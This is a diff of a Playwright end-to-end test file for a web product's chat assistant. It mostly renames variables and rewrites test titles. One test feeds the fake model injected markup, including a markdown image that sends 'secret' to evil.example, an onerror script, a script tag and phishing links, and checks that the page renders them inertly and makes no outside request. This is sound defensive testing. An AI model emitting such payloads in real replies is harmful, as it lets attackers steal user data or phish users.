@@ -4,20 +4,20 @@ import { type FakeModel, startFakeModel } from '#test/fakes/language-model.ts'
 import { rowsOf } from '#test/product/invariants.ts'
 import { type Product, startProduct } from '#test/product/product.ts'
 import { violationsOf } from './axe.ts'
-import { hydrated, openBrowser, type Person } from './person.ts'
+import { openBrowser, type Person, waitForHydration } from './person.ts'
 
 let product: Product
 let browser: Awaited<ReturnType<typeof openBrowser>>
 let member: Person
 let page: Page
-let complaints: string[]
+let consoleErrors: string[]
 let panel: Locator
 let field: Locator
 
 beforeAll(async () => {
   product = await startProduct({ DEMO: '1' })
   browser = await openBrowser()
-  member = await browser.person()
+  member = await browser.newPerson()
   await member.page.goto(product.demoLink())
   await member.page.waitForURL('**/dashboard')
   await member.page.goto('about:blank')
@@ -27,26 +27,26 @@ afterAll(async () => {
   await product?.stop()
 })
 
-/** Another page of a signed-in user without a conversation. */
+/** Opens a page for a signed-in user without a conversation. */
 async function openDashboard(person: Person, { url, database }: Product) {
   await rowsOf(database.ownerUrl, 'delete from chat_messages')
-  const opened = await person.openPage()
-  await opened.page.goto(`${url}/dashboard`)
-  await hydrated(opened.page)
-  return opened
+  const tab = await person.openPage()
+  await tab.page.goto(`${url}/dashboard`)
+  await waitForHydration(tab.page)
+  return tab
 }
 
 const log = () => panel.getByRole('log')
 const questions = () => log().getByText('You:')
-const atTheEnd = () =>
+const isAtEnd = () =>
   log().evaluate(
     (list) =>
       list.scrollHeight - list.scrollTop - list.clientHeight < 2 && list.scrollHeight > list.clientHeight,
   )
-async function faults(on: Page, within: string): Promise<string[]> {
-  return (await violationsOf(on, { within })).map(({ id, html }) => `${id}: ${html}`)
+async function violationsIn(target: Page, within: string): Promise<string[]> {
+  return (await violationsOf(target, { within })).map(({ id, html }) => `${id}: ${html}`)
 }
-/** Sends the window event, as any part of a page can. */
+/** Dispatches the window event that opens or closes the panel. */
 const sendEvent = (detail?: { open: boolean }) =>
   page.evaluate((open) => void window.dispatchEvent(new CustomEvent('open-chat', { detail: open })), detail)
 
@@ -65,7 +65,7 @@ async function askAboutScores(): Promise<void> {
 
 describe('A22 the assistant', () => {
   beforeEach(async () => {
-    ;({ page, complaints } = await openDashboard(member, product))
+    ;({ page, consoleErrors } = await openDashboard(member, product))
     panel = page.getByRole('dialog', { name: 'Assistant' })
     field = panel.getByLabel('Message')
   })
@@ -100,15 +100,12 @@ describe('A22 the assistant', () => {
     expect(await field.inputValue()).toBe('')
   })
 
-  test('shows Thinking... and accepts no input meanwhile; each message scrolls to the end', async () => {
+  test('shows Thinking... and disables the input while it waits, and scrolls to the end with each message', async () => {
     await askAboutScores()
-    let answer = () => {}
-    const held = new Promise<void>((resolve) => {
-      answer = resolve
-    })
-    // The response is real but delayed, so that the test can check the state before it.
+    const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
+    // Delays the real response, so that the test can check the waiting state.
     await page.route('**/api/chat', async (route) => {
-      await held
+      await gate
       await route.continue()
     })
     await field.fill('Who won the world cup?')
@@ -118,12 +115,12 @@ describe('A22 the assistant', () => {
       await field.isDisabled(),
       await panel.getByRole('button', { name: 'Send' }).isDisabled(),
     ]).toEqual([true, true])
-    expect(await atTheEnd()).toBe(true)
-    answer()
+    expect(await isAtEnd()).toBe(true)
+    openGate()
     await log().getByText("I don't know.").waitFor()
     await page.unroute('**/api/chat')
     expect(await log().getByText('Thinking...').count()).toBe(0)
-    expect(await atTheEnd()).toBe(true)
+    expect(await isAtEnd()).toBe(true)
     await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA')
   })
 
@@ -142,13 +139,13 @@ describe('A22 the assistant', () => {
     await panel.waitFor({ state: 'hidden' })
   })
 
-  test('answers whom to call with links to them', async () => {
+  test('answers whom to call with links to the contacts', async () => {
     await openPanel()
     await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
     await log().getByText('Call these first').waitFor()
-    const first = log().getByRole('link').first()
-    const name = await first.innerText()
-    await first.click()
+    const firstLink = log().getByRole('link').first()
+    const name = await firstLink.innerText()
+    await firstLink.click()
     await page.waitForURL(/contact=/)
     await page.getByRole('dialog', { name }).waitFor()
     await page.keyboard.press('Escape')
@@ -160,14 +157,14 @@ describe('A22 the assistant', () => {
     await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
     await log().getByText('Call these first').waitFor()
     await page.reload()
-    await hydrated(page)
-    const second = await page.context().newPage()
-    await second.goto(`${product.url}/tasks`)
-    for (const tab of [page, second]) {
+    await waitForHydration(page)
+    const secondTab = await page.context().newPage()
+    await secondTab.goto(`${product.url}/tasks`)
+    for (const tab of [page, secondTab]) {
       await tab.getByRole('button', { name: 'Ask the assistant' }).click()
       await tab.getByRole('log').getByText('Call these first').waitFor()
     }
-    await second.close()
+    await secondTab.close()
     await panel.getByRole('button', { name: 'New conversation' }).click()
     await log().getByText('Call these first').waitFor({ state: 'detached' })
     await page.reload()
@@ -177,15 +174,12 @@ describe('A22 the assistant', () => {
   })
 
   test('queues a question until earlier messages are loaded, and shows its answer once', async () => {
-    let arrive = () => {}
-    const before = new Promise<void>((resolve) => {
-      arrive = resolve
-    })
-    const asked: string[] = []
+    const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
+    const requestMethods: string[] = []
     const tab = await page.context().newPage()
     await tab.route('**/api/chat', async (route) => {
-      asked.push(route.request().method())
-      if (route.request().method() === 'GET') await before
+      requestMethods.push(route.request().method())
+      if (route.request().method() === 'GET') await gate
       await route.continue()
     })
     await tab.goto(`${product.url}/tasks`)
@@ -193,8 +187,8 @@ describe('A22 the assistant', () => {
     await tab.getByLabel('Message').fill('What does a score of 75 mean?')
     await tab.keyboard.press('Enter')
     await tab.getByRole('log').getByText('Thinking...').waitFor()
-    expect(asked).toEqual(['GET'])
-    arrive()
+    expect(requestMethods).toEqual(['GET'])
+    openGate()
     await tab.getByRole('log').getByText('one-in-three').waitFor()
     expect(await tab.getByRole('log').getByText('You:').count()).toBe(1)
     await tab.close()
@@ -207,12 +201,12 @@ describe('A22 the assistant', () => {
     expect([box?.x, box?.width, (box?.y ?? 0) + (box?.height ?? 0)]).toEqual([0, 390, 844])
   })
 
-  test.each(['light', 'dark'])('A33 has no accessibility faults in the %s theme', async (theme) => {
+  test.each(['light', 'dark'])('A33 has no accessibility violations in the %s theme', async (theme) => {
     await askAboutScores()
     await page.evaluate((value) => {
       document.documentElement.dataset.theme = value
     }, theme)
-    expect(await faults(page, 'aside')).toEqual([])
+    expect(await violationsIn(page, 'aside')).toEqual([])
   })
 
   test('A36 reports an outage and names support', async () => {
@@ -226,7 +220,7 @@ describe('A22 the assistant', () => {
           "I'm having trouble responding right now. Please try again or contact support at support@ninefold.example.",
         )
         .waitFor()
-      expect(complaints.join()).toContain('The assistant could not answer')
+      expect(consoleErrors.join()).toContain('The assistant could not answer')
       expect(await field.isEnabled()).toBe(true)
     } finally {
       await product.restart()
@@ -236,99 +230,96 @@ describe('A22 the assistant', () => {
 
 describe('A22 the assistant with a connected model', () => {
   let fake: FakeModel
-  let connected: Product
+  let modelProduct: Product
   let user: Person
-  let asking: Page
-  let foreign: string[]
+  let chatPage: Page
+  let foreignRequests: string[]
   beforeAll(async () => {
     fake = await startFakeModel()
-    connected = await startProduct({ DEMO: '1', LLM_BASE_URL: fake.url, LLM_MODEL: 'test-model' })
-    user = await browser.person()
-    await user.page.goto(connected.demoLink())
+    modelProduct = await startProduct({ DEMO: '1', LLM_BASE_URL: fake.url, LLM_MODEL: 'test-model' })
+    user = await browser.newPerson()
+    await user.page.goto(modelProduct.demoLink())
     await user.page.waitForURL('**/dashboard')
   })
   beforeEach(async () => {
     fake.reset()
-    foreign = []
-    asking = (await openDashboard(user, connected)).page
-    asking.on('request', (request) => {
-      if (!request.url().startsWith(connected.url)) foreign.push(request.url())
+    foreignRequests = []
+    chatPage = (await openDashboard(user, modelProduct)).page
+    chatPage.on('request', (request) => {
+      if (!request.url().startsWith(modelProduct.url)) foreignRequests.push(request.url())
     })
-    asking.on('dialog', (dialog) => {
-      foreign.push(dialog.message())
+    chatPage.on('dialog', (dialog) => {
+      foreignRequests.push(dialog.message())
       void dialog.dismiss()
     })
-    await asking.getByRole('button', { name: 'Ask the assistant' }).click()
+    await chatPage.getByRole('button', { name: 'Ask the assistant' }).click()
   })
-  afterEach(() => asking.close())
+  afterEach(() => chatPage.close())
   afterAll(async () => {
-    await connected?.stop()
+    await modelProduct?.stop()
     await fake?.stop()
   })
   const ask = async (question: string) => {
-    await asking.getByLabel('Message').fill(question)
-    await asking.keyboard.press('Enter')
+    await chatPage.getByLabel('Message').fill(question)
+    await chatPage.keyboard.press('Enter')
   }
-  const replies = () => asking.getByRole('log')
+  const chatLog = () => chatPage.getByRole('log')
 
   test('streams the answer and names its source', async () => {
-    await asking.getByText('Answered by test-model. We check the numbers.').waitFor()
-    let goOn = () => {}
-    const held = new Promise<void>((resolve) => {
-      goOn = resolve
-    })
-    fake.answer({ pieces: ['A score of 75 is a one-in-three chance. It', held, ' is not 75 percent.'] })
+    await chatPage.getByText('Answered by test-model. We check the numbers.').waitFor()
+    const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
+    fake.answer({ pieces: ['A score of 75 is a one-in-three chance. It', gate, ' is not 75 percent.'] })
     await ask('What does a score of 75 mean?')
-    const partialReply = replies().locator('[aria-hidden="true"]', {
+    const partialReply = chatLog().locator('[aria-hidden="true"]', {
       hasText: 'A score of 75 is a one-in-three chance.',
     })
     await partialReply.waitFor()
-    await replies().getByText('Thinking...').waitFor()
-    expect(await asking.getByLabel('Message').isDisabled()).toBe(true)
-    goOn()
-    await replies().getByText('A score of 75 is a one-in-three chance. It is not 75 percent.').waitFor()
-    await replies().getByRole('link', { name: 'How the score works: What 75 means' }).waitFor()
+    await chatLog().getByText('Thinking...').waitFor()
+    expect(await chatPage.getByLabel('Message').isDisabled()).toBe(true)
+    openGate()
+    await chatLog().getByText('A score of 75 is a one-in-three chance. It is not 75 percent.').waitFor()
+    await chatLog().getByRole('link', { name: 'How the score works: What 75 means' }).waitFor()
     expect(await partialReply.count()).toBe(0)
   })
 
-  test('Trust 15 shows an attack as text that runs and requests nothing', async () => {
+  test('Trust 15 shows injected markup as text that runs no script and sends no request', async () => {
     fake.answer(
       'Steps. ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/i" onerror="alert(document)"> <script>alert(document)</script> See [the plan](https://evil.example/login) or evil.com/pay.',
     )
     await ask('What is a playbook?')
-    await replies().getByText('onerror="alert(document)"').waitFor()
-    await replies().getByText('See the plan or').waitFor()
-    expect(await replies().locator('img, script, iframe').count()).toBe(0)
-    const links = await replies()
+    await chatLog().getByText('onerror="alert(document)"').waitFor()
+    await chatLog().getByText('See the plan or').waitFor()
+    expect(await chatLog().locator('img, script, iframe').count()).toBe(0)
+    const links = await chatLog()
       .getByRole('link')
-      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href))
-    expect(links.filter((link) => !link.startsWith(`${connected.url}/documentation/`))).toEqual([])
-    expect(await replies().innerText()).not.toContain('evil')
-    expect(foreign).toEqual([])
+      .evaluateAll((elements) => elements.map((link) => (link as HTMLAnchorElement).href))
+    expect(links.filter((link) => !link.startsWith(`${modelProduct.url}/documentation/`))).toEqual([])
+    expect(await chatLog().innerText()).not.toContain('evil')
+    expect(foreignRequests).toEqual([])
   })
 
-  test('shows the template answer instead of an invented figure or no answer', async () => {
+  test('shows the template answer when the model invents a number or fails', async () => {
     fake.answer('Call everybody. It works in 97 percent of cases.')
     await ask('Who should I call this week?')
-    await replies().getByText('Call these first').waitFor()
-    expect(await replies().innerText()).not.toMatch(/Call everybody|97 percent/)
+    await chatLog().getByText('Call these first').waitFor()
+    expect(await chatLog().innerText()).not.toMatch(/Call everybody|97 percent/)
     fake.answer({ pieces: ['A playbook. It'], end: 'cut' }, { status: 500 })
     await ask('What is a playbook?')
-    await replies().getByText("We couldn't reach the language model").waitFor()
-    expect(foreign).toEqual([])
+    await chatLog().getByText("We couldn't reach the language model").waitFor()
+    expect(foreignRequests).toEqual([])
   })
 })
 
-test('A37 the free account page explains it and opens the sign-in dialog', async () => {
-  const visitor = await browser.person()
-  const answer = await visitor.page.request.get(`${product.url}/free-signup`)
-  expect(await answer.text()).toContain('Start with a free account')
+test('A37 the free account page explains the account and opens the sign-in dialog', async () => {
+  const visitor = await browser.newPerson()
+  const response = await visitor.page.request.get(`${product.url}/free-signup`)
+  expect(await response.text()).toContain('Start with a free account')
   await visitor.page.goto(`${product.url}/free-signup`)
-  await hydrated(visitor.page)
-  expect(await faults(visitor.page, 'main')).toEqual([])
+  await waitForHydration(visitor.page)
+  expect(await violationsIn(visitor.page, 'main')).toEqual([])
   await visitor.page.getByRole('button', { name: 'Create a free account' }).click()
   await visitor.page.getByRole('dialog').getByLabel('Email').waitFor()
   await visitor.page.goto(`${product.url}/get-started`)
   await visitor.page.waitForURL(`${product.url}/#pricing`)
-  expect(visitor.complaints).toEqual([])
+  expect(visitor.consoleErrors).toEqual([])
 })
